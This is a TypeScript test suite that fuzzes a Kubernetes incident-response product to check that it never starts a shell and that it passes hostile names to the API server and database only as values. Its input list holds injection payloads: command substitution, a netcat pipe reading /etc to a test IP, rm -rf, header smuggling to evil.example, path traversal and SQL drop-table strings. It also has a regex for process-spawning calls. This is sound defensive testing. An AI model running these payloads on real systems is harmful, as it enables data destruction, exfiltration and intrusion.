/**
 * Guarantee 12: no shell anywhere. No module of the product can start one; whatever a name, a parameter or an argument holds, the API server is asked for
 * exactly what it would be asked for a plain one, with that text as one part of an address or of a body, and the database gets it as a value.
 */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { readFileSync } from 'node:fs'
import { DummyDriver, Kysely, PostgresAdapter, PostgresIntrospector, PostgresQueryCompiler, type RawBuilder } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { createExecutor } from '../../apps/executor/run.ts'
import { connect } from '../../clusters/client.ts'
import { systemClock } from '../../domain/clock.ts'
import { FalconerError } from '../../domain/errors.ts'
import { newApprovalKeys } from '../../responses/approved.ts'
import { actions } from '../../responses/catalog/catalog.ts'
import { loadPolicy } from '../../responses/policy.ts'
import type { Database } from '../../store/database.ts'
import { sourceFiles } from '../../scripts/boundaries/cruise.ts'
import { tools } from '../../tools/catalog/registry.generated.ts'
import { kinds, takes, target } from '../support/hostile-parameters.ts'
import { openSite, type Site } from '../support/site.ts'
import { cases, seed } from '../support/sizes.ts'
import { alertOfShop } from '../support/shop-alert.ts'
import { toolContext } from '../support/tool-call.ts'

const marker = 'q7zinert'
const around: readonly ((mark: string) => string)[] = [
  (mark) => `-${mark}`,
  (mark) => `--kubeconfig=/tmp/${mark}`,
  (mark) => `-o jsonpath=${mark}`,
  (mark) => `; touch /tmp/${mark};`,
  (mark) => `$(touch /tmp/${mark})`,
  (mark) => `\`touch /tmp/${mark}\``,
  (mark) => `| nc 203.0.113.9 1 < /etc/${mark}`,
  (mark) => `&& rm -rf ${mark} &`,
  (mark) => `\n${mark}\r\nHost: evil.example\r\n\r\n`,
  (mark) => `${mark}\u0000`,
  (mark) => `../../${mark}`,
  (mark) => `/${mark}/../../../secrets`,
  (mark) => `%2e%2e%2f${mark}`,
  (mark) => `${mark}?fieldManager=x&force=true`,
  (mark) => `${mark}#`,
  (mark) => `'; drop table alerts; -- ${mark}`,
  (mark) => `${mark}' or '1'='1`,
  (mark) => `\\'; delete from incidents where '${mark}'='${mark}`,
  (mark) => `\${${mark}}`,
  (mark) => `{{${mark}}}`,
  (mark) => `"${mark}"`,
  (mark) => `%s%n${mark}`,
  (mark) => `*?[${mark}]`,
  (mark) => `~${mark}`,
  (mark) => `@${mark}`,
  (mark) => `${mark}\u2028\u202e`,
]
/** Without a mark, because they must be the whole text. */
const bare = ['.', '..', '', ' ', '-', '--', '\n', '/', '%', '%2e%2e', '~']
/** The `at`-th, always another. */
const hostile = (at: number): string => {
  const round = Math.floor(at / around.length)
  const make = around[(at + seed) % around.length] as (mark: string) => string
  return round % 7 === 6 ? (bare[at % bare.length] as string) : make(`${marker}${round === 0 ? '' : round}`)
}

describe('no shell', () => {
  // All that is not a proof, so that a new room is looked into at once.
  const product = sourceFiles().filter((file) => !/^(?:test|evals|bench|scripts)\/|^[^/]+$|\.test\.ts$/.test(file))
  /** Ways to start a program or to run text as code. `fork` starts the executor: a file of ours with arguments of ours. */
  const ways =
    /\b(?:child_process|execSync|execFile|spawnSync|worker_threads|node:vm|node:cluster)\b|\bshell: ?(?:true|['"`])|\beval\(|\bnew Function\(/
  const startsPrograms = (files: readonly string[], read = (file: string): string => readFileSync(file, 'utf8')): string[] =>
    files.filter((file) => ways.test(read(file)))

  it('guarantee 12: is started by no module of the product; one starts the executor, from a file of ours', ({ task }) => {
    expect(product.length).toBeGreaterThan(400)
    expect(startsPrograms(product)).toEqual(['apps/executor/launch.ts', 'apps/executor/line.ts'].filter((file) => product.includes(file)))
    expect(readFileSync('apps/executor/line.ts', 'utf8')).toMatch(/import type \{ ChildProcess \} from 'node:child_process'/)
    expect(readFileSync('apps/executor/launch.ts', 'utf8').match(/from 'node:child_process'/g)).toHaveLength(1)
    expect(readFileSync('apps/executor/launch.ts', 'utf8')).toMatch(/import \{ fork \} from 'node:child_process'/)
    expect(startsPrograms(['x.ts'], () => `import { exec } from 'node:child_process'`)).toEqual(['x.ts'])
    Object.assign(task.meta, { cases: product.length })
  })
})

type Recorded = { method: string; path: string; query: string; body: string }

describe('actions', () => {
  let asked: Recorded[] = []
  let answering = { namespace: '', name: '', uid: 'u' }
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (part: Buffer) => (body += part.toString()))
    request.on('end', () => {
      const [path = '', query = ''] = (request.url ?? '').split('?')
      asked.push({ method: request.method ?? '', path, query, body })
      const answer = answerTo(path, answering)
      response.writeHead(answer === null ? 404 : 200, { 'content-type': 'application/json' })
      response.end(answer ?? '{"message":"not found"}')
    })
  })
  let port = 0
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    port = (server.address() as AddressInfo).port
  })
  afterAll(() => server.close())

  /** What one plan asks of the API server: its requests, with the names it was given taken out of them. */
  async function shapesOf(
    action: string,
    names: { namespace: string; name: string },
  ): Promise<{ shapes: string[]; refused: string | null }> {
    const kind = kinds[action] ?? 'pod'
    const of = target(kind)
    const meant = { ...of, name: names.name, namespace: kind === 'node' ? null : names.namespace }
    answering = { namespace: names.namespace, name: names.name, uid: of.uid }
    asked = []
    const executor = createExecutor({
      kubeConfig: connect({ kubeconfig: kubeconfigAt(port) }),
      policy: loadPolicy(),
      publicKey: newApprovalKeys().publicKey,
      actionsEnabled: true,
      scope: null,
      clock: systemClock,
    })
    const params = Object.fromEntries(Object.entries(takes[action] ?? {}).map(([name, { min }]) => [name, Math.max(min, 1)]))
    let refused: string | null = null
    try {
      await executor.plan({ action, params, target: meant })
    } catch (error) {
      if (!(error instanceof FalconerError)) throw error
      refused = error.message
    }
    const shapes = asked.map(({ method, path, query, body }) => {
      const parts = path.split('/').map((part) => {
        const text = decodeURIComponent(part)
        if (text === '') return text
        return text === names.name ? '{name}' : text === names.namespace ? '{namespace}' : text
      })
      return `${method} ${parts.join('|')} ${[...new URLSearchParams(query).keys()].join()} ${keysIn(body)}`
    })
    return { shapes, refused }
  }

  it.each(actions.map(({ name }) => name))(
    'guarantee 12: %s asks the API server the same, whatever the names hold',
    async (action) => {
      const plain = await shapesOf(action, { namespace: 'plainspace', name: 'plainname' })
      expect(plain.refused, 'a plain one is planned').toBeNull()
      expect(plain.shapes.some((shape) => shape.includes('{name}'))).toBe(true)
      const count = cases(10_000, 100)
      let planned = 0
      for (let at = 0; at < count; at += 1) {
        const names = { namespace: at % 3 === 0 ? 'plainspace' : hostile(at + 13), name: at % 3 === 1 ? 'plainname' : hostile(at) }
        const { shapes, refused } = await shapesOf(action, names)
        for (const shape of shapes) if (!plain.shapes.includes(shape)) expect.fail(`${action} ${JSON.stringify(names)} asked ${shape}`)
        if (refused === null) planned += 1
      }
      console.log(`${action}: ${count} cases, ${planned} planned`)
      expect(planned, 'planned with a hostile name').toBeGreaterThan(count / 10)
    },
    7_200_000,
  )

  it('guarantee 12: counted for actions', ({ task }) => {
    Object.assign(task.meta, { cases: cases(10_000, 100) * actions.length })
    // The check can fail: a name that is an address is another request.
    expect(new URL('http://x/api/v1/namespaces/shop/pods/..').pathname).toBe('/api/v1/namespaces/shop/')
  })
})

const keysIn = (body: string): string =>
  body === ''
    ? ''
    : Object.keys(JSON.parse(body) as object)
        .sort()
        .join()

function answerTo(path: string, { namespace, name, uid }: { namespace: string; name: string; uid: string }): string | null {
  if (path === '/version') return JSON.stringify({ gitVersion: 'v1.33.0' })
  if (path.endsWith('/namespaces/kube-system')) return JSON.stringify({ metadata: { name: 'kube-system', uid: 'cluster' } })
  const parts = path.split('/').map(decodeURIComponent)
  const isOne = parts.at(-1) === name || parts.at(-1) === 'scale'
  if (!isOne && path.endsWith('/log')) return 'a line'
  if (!isOne) return /\/[a-z]+s$/.test(path) ? JSON.stringify({ items: [], metadata: {} }) : null
  const spec = {
    replicas: 2,
    containers: [{ name: 'app', image: 'a' }],
    template: { metadata: { labels: {} }, spec: {} },
    selector: { matchLabels: {} },
  }
  return JSON.stringify({
    metadata: { name, namespace, uid, labels: {}, annotations: {}, ownerReferences: [] },
    spec,
    status: { phase: 'Running', readyReplicas: 2 },
  })
}

const kubeconfigAt = (port: number): string =>
  JSON.stringify({
    apiVersion: 'v1',
    kind: 'Config',
    clusters: [{ name: 'c', cluster: { server: `http://127.0.0.1:${port}`, 'insecure-skip-tls-verify': true } }],
    users: [{ name: 'u', user: {} }],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
    'current-context': 'x',
  })

describe('tools', () => {
  let site: Site
  const compiler = new Kysely<unknown>({
    dialect: {
      createAdapter: () => new PostgresAdapter(),
      createDriver: () => new DummyDriver(),
      createIntrospector: (db) => new PostgresIntrospector(db),
      createQueryCompiler: () => new PostgresQueryCompiler(),
    },
  })
  let statements = 0
  let asText: string[] = []
  let asValue = 0
  beforeAll(async () => {
    site = await openSite({ shop: true })
    await site.ingest(JSON.stringify(alertOfShop()))
    await site.settle()
  })
  afterAll(async () => site.close())

  /** The same database, and of each statement whether the mark stands in its text or among its values. */
  const watched = (db: Database): Database =>
    new Proxy(db, {
      get(of, key) {
        const value = Reflect.get(of, key) as unknown
        if (typeof value !== 'function') return value
        if (key === 'transaction')
          return (work: (tx: never) => Promise<unknown>, ...rest: never[]) =>
            (value as Database['transaction']).call(of, (tx) => work(watched(tx as never) as never), ...rest)
        if (key !== 'query') return (value as () => unknown).bind(of)
        return (statement: RawBuilder<never>) => {
          const { sql, parameters } = statement.compile(compiler)
          statements += 1
          if (sql.includes(marker)) asText.push(sql.slice(0, 300))
          if (JSON.stringify(parameters, (_key, one: unknown) => (typeof one === 'bigint' ? String(one) : one)).includes(marker))
            asValue += 1
          return of.query(statement)
        }
      },
    })

  /** Names of parameters that are text, and whether they are needed. */
  const textsOf = (input: z.ZodObject) => {
    const { properties = {}, required = [] } = z.toJSONSchema(input, { io: 'input', unrepresentable: 'any' }) as {
      properties?: Record<string, { type?: string; enum?: unknown[]; items?: { type?: string; enum?: unknown[] } }>
      required?: string[]
    }
    return Object.entries(properties).flatMap(([name, { type, enum: closed, items }]) => {
      if (type === 'string' && closed === undefined)
        return [{ name, make: (text: string): unknown => text, needed: required.includes(name) }]
      if (type === 'array' && items?.type === 'string' && items.enum === undefined)
        return [{ name, make: (text: string): unknown => [text], needed: required.includes(name) }]
      return []
    })
  }

  it.each(tools.map((tool) => [tool.name, tool] as const))(
    'guarantee 12: %s takes every text as a value',
    async (name, tool) => {
      const names = textsOf(tool.input)
      if (names.length === 0) return
      const context = await toolContext(site, site.people.investigator)
      const count = cases(1_000, 40)
      asText = []
      for (let at = 0; at < count; at += 1) {
        const given = Object.fromEntries(
          names
            .filter((one, place) => one.needed || (at + place) % names.length === 0)
            .map((one, place) => [one.name, one.make(hostile(at + place))]),
        )
        const input = tool.input.safeParse(given)
        if (!input.success) continue
        await tool.run(input.data, { ...context, db: watched(context.db) }).catch((error: unknown) => {
          if (!(error instanceof FalconerError)) throw error
        })
      }
      // A statement of its caller's is what query_records is for; it has a reader and a suite of its own (guarantee 5).
      if (name !== 'query_records') expect(asText).toEqual([])
    },
    7_200_000,
  )

  it('guarantee 12: counted for tools', ({ task }) => {
    expect(statements).toBeGreaterThan(100)
    expect(asValue, 'statements that had such a text as a value').toBeGreaterThan(50)
    Object.assign(task.meta, { cases: cases(1_000, 40) * tools.length })
  })
})
